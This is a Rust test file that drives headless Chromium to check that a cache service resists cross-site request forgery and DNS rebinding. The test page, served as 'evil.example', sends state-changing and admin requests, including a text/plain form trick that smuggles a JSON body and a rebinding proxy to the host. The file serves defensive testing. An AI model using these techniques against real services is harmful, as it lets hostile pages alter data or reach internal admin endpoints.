//! What a web page can do to a host, tried with a browser (Debian's package `chromium`): a page of
//! another origin, and a page whose own name leads to the host after the page was loaded.

use std::net::SocketAddr;
use std::path::Path;
use std::process::Command;

use corral_tests::servers::{Host, Program, free_port};
use hyper::StatusCode;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, copy_bidirectional};
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::mpsc;
use tokio::time::timeout;

use super::common::{SOON, Servers, ask, get, loads, post};

/// Tries every request that it is given, in every mode of `fetch`, and by a form and an image if
/// those can make it. Then it reports what it could see: the status of each request, 0 for none.
const PAGE: &str = r#"<!doctype html><script type="module">
const { tries, report } = TOLD;
const seen = [];
for (const [method, url, body, type] of tries) {
  for (const mode of ["no-cors", "cors"]) {
    const headers = body ? { "content-type": type } : {};
    const asked = fetch(url, { method, mode, headers, body: body || undefined });
    seen.push(await asked.then(({ status }) => status, () => 0));
  }
  if (method === "POST") {
    const form = document.createElement("form");
    const frame = document.createElement("iframe");
    frame.name = "frame" + seen.length;
    Object.assign(form, { method, action: url, enctype: "text/plain", target: frame.name });
    const field = document.createElement("input");
    // A form puts `=` between the field's name and its value; here that becomes a part of a string.
    Object.assign(field, { name: body.slice(0, -1) + ', "', value: '": 1}' });
    form.append(field);
    document.documentElement.append(frame, form);
    const loaded = new Promise((done) => { frame.onload = frame.onerror = done; });
    form.submit();
    await loaded;
  } else if (method === "GET") {
    const image = new Image();
    const ended = new Promise((done) => { image.onload = image.onerror = done; });
    image.src = url;
    await ended;
  }
}
await fetch(report, { method: "POST", mode: "no-cors", body: JSON.stringify(seen) });
</script>"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_page_of_another_origin_does_anything() {
    let servers = Servers::shared().await;
    let host = servers.host("[query]\nenabled = true\n").await;
    let victim = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let naive = format!("http://{}", victim.local_addr().unwrap());
    let (asked, mut naively_asked) = mpsc::unbounded_channel();
    tokio::spawn(serve(victim, move |request| {
        let _ended = asked.send(request);
        "HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\n".to_owned()
    }));
    let mut tries = Vec::new();
    for base in [host.url(""), naive.clone()] {
        tries.extend(front(&base, "text/plain"));
    }
    tries.extend(back(&host.url("/metrics").replace("/metrics", "")));
    let seen = browse("evil.example", &tries).await;

    // A page of another origin sees nothing of the host's answers, and of the naive server's
    // answers their status.
    let of_naive = |nth: usize| tries[nth / 2][1].as_str().unwrap().starts_with(&naive);
    for (nth, status) in seen.iter().enumerate() {
        assert!(of_naive(nth) || *status == 0, "{}: {status}", tries[nth / 2]);
    }
    nothing_happened(&host).await;
    // The control: a naive server accepts all of this, from fetch and from forms.
    let mut requests = Vec::new();
    while let Ok(request) = naively_asked.try_recv() {
        requests.push(request);
    }
    for needle in ["POST /invalidate", "POST /write/user.card/rename", "GET /read/user.profile"] {
        assert!(
            requests.iter().any(|request| request.starts_with(needle)),
            "{needle}: {requests:?}"
        );
    }
    assert!(
        requests.iter().any(|request| request.trim_end().ends_with(r#", "=": 1}"#)),
        "{requests:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_page_whose_name_was_bound_to_the_host_does_anything() {
    let servers = Servers::shared().await;
    let host = servers.host("[query]\nenabled = true\n").await;
    let admin = host.url("/metrics").replace("/metrics", "");
    for (target, tries) in [(host.url(""), front("", "application/json")), (admin, back(""))] {
        let seen = browse_rebound(&target, &tries).await;
        for (nth, status) in seen.iter().enumerate() {
            // A page sees every answer of its own origin.
            assert_eq!(*status, 403, "{}", tries[nth / 2]);
        }
    }
    nothing_happened(&host).await;
}

/// What the face for reads and writes offers, and what can be done with it.
fn front(base: &str, media: &str) -> Vec<Value> {
    let rename = r#"{"id": 31, "name": "Evil"}"#;
    vec![
        json!(["GET", format!("{base}/read/user.profile?id=31"), "", ""]),
        json!(["POST", format!("{base}/invalidate"), r#"{"tags": ["user:31"]}"#, media]),
        json!(["POST", format!("{base}/write/user.card/rename"), rename, media]),
        json!(["POST", format!("{base}/query"), r#"{"sql": "SELECT 1"}"#, media]),
    ]
}

/// The same for the admin face.
fn back(base: &str) -> Vec<Value> {
    vec![
        json!(["GET", format!("{base}/admin/policy"), "", ""]),
        json!(["GET", format!("{base}/metrics"), "", ""]),
        json!(["POST", format!("{base}/admin/policy/rollback"), "{}", "text/plain"]),
    ]
}

/// Checks that nothing was loaded, written or removed, and that a client that is not a page can do
/// all of that.
async fn nothing_happened(host: &Host) {
    assert_eq!(loads(&[host], "user.profile", None).await, 0.0);
    let invalidated = async || {
        let metrics = host.metrics().await.unwrap();
        metrics.sum_where("corral_invalidations_total", &[("kind", "tag")])
    };
    assert_eq!(invalidated().await, 0.0);
    assert_eq!(get(host, "/read/user.card?id=31").await.json().unwrap()["name"], "User 31");
    let taken = post(host, "/invalidate", r#"{"tags": ["user:31"]}"#).await;
    assert_eq!(taken.status, StatusCode::OK);
    assert!(invalidated().await > 0.0, "the control");
    assert_eq!(ask(host, "GET /admin/policy", &[], "").await.status, StatusCode::OK);
}

/// Opens the page under a name, and returns what it reports.
async fn browse(name: &str, tries: &[Value]) -> Vec<u64> {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = listener.local_addr().unwrap();
    let (reports, mut reported) = mpsc::unbounded_channel();
    let page = page(tries, "/report");
    tokio::spawn(serve(listener, move |request| answer(&request, &page, &reports)));
    let _browser = browser(&format!("http://{name}:{}/page", address.port())).await;
    report(&mut reported).await
}

/// Opens the page under a name that leads to the host for everything except the page itself.
async fn browse_rebound(target: &str, tries: &[Value]) -> Vec<u64> {
    let target: SocketAddr = target.strip_prefix("http://").unwrap().parse().unwrap();
    let [own, rebound] = [listen().await, listen().await];
    let (reports, mut reported) = mpsc::unbounded_channel();
    let to = format!("http://evil.example:{}/report", own.local_addr().unwrap().port());
    let page = page(tries, &to);
    let port = rebound.local_addr().unwrap().port();
    let kept = page.clone();
    tokio::spawn(serve(own, move |request| answer(&request, &kept, &reports)));
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = rebound.accept().await {
            let page = page.clone();
            tokio::spawn(async move {
                let mut begins = [0; 9];
                let count = stream.peek(&mut begins).await.unwrap_or(0);
                if begins[..count] == *b"GET /page" {
                    let _request = whole(&mut stream).await;
                    let _sent = stream.write_all(html(&page).as_bytes()).await;
                } else if let Ok(mut host) = TcpStream::connect(target).await {
                    let _ended = copy_bidirectional(&mut stream, &mut host).await;
                }
            });
        }
    });
    let _browser = browser(&format!("http://rebound.example:{port}/page")).await;
    report(&mut reported).await
}

async fn listen() -> TcpListener {
    TcpListener::bind("127.0.0.1:0").await.unwrap()
}

async fn report(reported: &mut mpsc::UnboundedReceiver<String>) -> Vec<u64> {
    let report = timeout(4 * SOON, reported.recv()).await.expect("the page reports").unwrap();
    serde_json::from_str(&report).unwrap()
}

fn page(tries: &[Value], report: &str) -> String {
    PAGE.replace("TOLD", &json!({ "tries": tries, "report": report }).to_string())
}

fn html(page: &str) -> String {
    let length = page.len();
    format!(
        "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: {length}\r\n\
         connection: close\r\n\r\n{page}"
    )
}

/// The answers of the page's own server.
fn answer(request: &str, page: &str, reports: &mpsc::UnboundedSender<String>) -> String {
    if request.starts_with("GET /page") {
        return html(page);
    }
    if let (true, Some((_, body))) =
        (request.starts_with("POST /report"), request.split_once("\r\n\r\n"))
    {
        let _ended = reports.send(body.to_owned());
    }
    "HTTP/1.1 200 OK\r\n".to_owned()
}

/// A small server; a request without a body gets an empty one.
async fn serve(listener: TcpListener, answer: impl Fn(String) -> String + Clone + Send + 'static) {
    while let Ok((mut stream, _)) = listener.accept().await {
        let answer = answer.clone();
        tokio::spawn(async move {
            let request = whole(&mut stream).await;
            let mut answer = answer(request);
            if !answer.contains("\r\n\r\n") {
                answer.push_str("connection: close\r\ncontent-length: 0\r\n\r\n");
            }
            // A browser that breaks off needs no answer.
            let _sent = stream.write_all(answer.as_bytes()).await;
        });
    }
}

/// A request with its body.
async fn whole(stream: &mut TcpStream) -> String {
    let mut bytes = Vec::new();
    loop {
        let text = String::from_utf8_lossy(&bytes).into_owned();
        if is_whole(&text) || !matches!(stream.read_buf(&mut bytes).await, Ok(1..)) {
            return text;
        }
    }
}

fn is_whole(request: &str) -> bool {
    let Some((head, body)) = request.split_once("\r\n\r\n") else { return false };
    let head = head.to_ascii_lowercase();
    let length = head.lines().find_map(|line| line.strip_prefix("content-length: "));
    body.len() >= length.map_or(0, |length| length.parse().unwrap())
}

/// A browser in which every name under `example` leads to this machine. It ends when it is dropped.
async fn browser(url: &str) -> Program {
    let program = ["/usr/bin/chromium", "/usr/bin/chromium-browser"];
    let program = program.into_iter().find(|program| Path::new(program).exists());
    let program = program.expect("a browser; tests/prepare installs chromium");
    let (home, port) = (tempfile::tempdir().unwrap(), free_port().unwrap());
    let mut command = Command::new(program);
    command
        .args(["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"])
        .args(["--no-first-run", "--host-resolver-rules=MAP *.example 127.0.0.1"])
        .arg(format!("--user-data-dir={}", home.path().join("profile").display()))
        // An answer here says that it has started.
        .arg(format!("--remote-debugging-port={port}"))
        .arg(url);
    Program::start(command, home, port, "/json/version").await.unwrap()
}
